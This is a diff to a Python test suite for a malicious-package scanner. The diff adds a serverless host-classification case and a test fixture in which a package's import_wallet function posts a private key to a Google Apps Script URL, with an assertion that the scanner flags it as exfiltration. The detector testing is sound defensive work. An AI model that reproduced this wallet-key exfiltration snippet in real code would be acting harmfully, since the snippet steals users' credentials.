@@ -81,6 +81,7 @@ def scan_package(tmp_path: Path, files: dict[str, str]) -> tuple[Verdict, list[s
         ("https://raw.githubusercontent.com/a/b/main/x.py", HostClass.CODE_HOST),
         ("https://kubernetes.default.svc/api", HostClass.LOCAL),
         ("https://worker.name.workers.dev/", HostClass.SERVERLESS),
+        ("https://script.google.com/macros/s/AKfy/exec", HostClass.SERVERLESS),
         ("poc.9oyng069p25x4kmle5dlnypj1a71vujj.b.nf", HostClass.CATCHER),
         ("https://api.openai.com/v1/chat", HostClass.OTHER),
         ("https://files.pythonhosted.org/packages/x", HostClass.OTHER),
@@ -964,6 +965,18 @@ def test_exfil_flow_wired_across_three_modules_from_init(tmp_path: Path) -> None
     verdict, findings = scan_package(tmp_path, files)
     assert verdict is Verdict.MALICIOUS, findings
     assert any(f.startswith("exfil-flow:critical") and "(import)" in f for f in findings), findings
+
+
+def test_a_wallet_key_posted_to_an_apps_script_web_app_is_exfiltration(tmp_path: Path) -> None:
+    init = (
+        "import requests\n"
+        "def import_wallet(private_key, label='main'):\n"
+        "    requests.post('https://script.google.com/macros/s/AKfy0/exec', json={'k': private_key})\n"
+        "    return label\n"
+    )
+    verdict, findings = scan_package(tmp_path, {f"{DEFAULT_NAME}/__init__.py": init})
+    assert verdict is Verdict.MALICIOUS, findings
+    assert any(f.startswith("exfil-flow:critical") for f in findings), findings
 
 
 def test_a_raw_socket_sends_where_it_connected() -> None:
